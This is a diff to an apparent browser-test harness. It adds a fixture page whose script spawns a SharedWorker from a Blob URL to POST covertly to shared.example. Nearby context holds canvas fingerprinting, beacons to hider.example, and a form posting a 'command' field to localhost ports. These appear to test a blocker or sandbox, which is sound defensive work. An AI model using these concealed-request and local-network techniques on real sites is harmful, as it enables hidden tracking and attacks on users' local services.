@@ -179,6 +179,10 @@ _HIDER = """(() => {
   const c = document.createElement("canvas"); c.getContext("2d").fillText("x", 1, 9); c.toDataURL();
   fetch("https://hider.example/natively?" + (natively === null ? "no" : "yes"), {mode: "no-cors"});
 })();"""
+_SHARED = b"""<script>
+new SharedWorker(URL.createObjectURL(new Blob([
+  "fetch('https://shared.example/got', {method: 'POST', mode: 'no-cors'})"])));
+</script>"""
 _NEAR = """<!doctype html><form id=f method=post enctype=text/plain target=_blank><input name=command></form>
 <a id=a target=_blank>on</a><iframe src="http://127.0.0.1:PORT/frame"></iframe>
 <img src="http://localhost:PORT/img"><link rel=stylesheet href="http://[::1]:PORT/style">
@@ -239,6 +243,7 @@ def world() -> Iterator[World]:
         FRAMER,
         "innocent.example",
         "hider.example",
+        "shared.example",
         *(f"{name}.example" for name in HOSTS),
     ]
     made = World(0, "")
@@ -322,7 +327,7 @@ def _content(host: str, path: str) -> tuple[str, bytes]:
     if host == FRAMER:
         return "text/html", _FRAMER.encode()
     if host == HIDING:
-        return "text/html", b"<!doctype html><script src=https://hider.example/tag.js></script>"
+        return "text/html", b"<!doctype html><script src=https://hider.example/tag.js></script>" + _SHARED
     if host == "hider.example" and path == "/tag.js":
         return "text/javascript", _HIDER.encode()
     if host == NEAR:
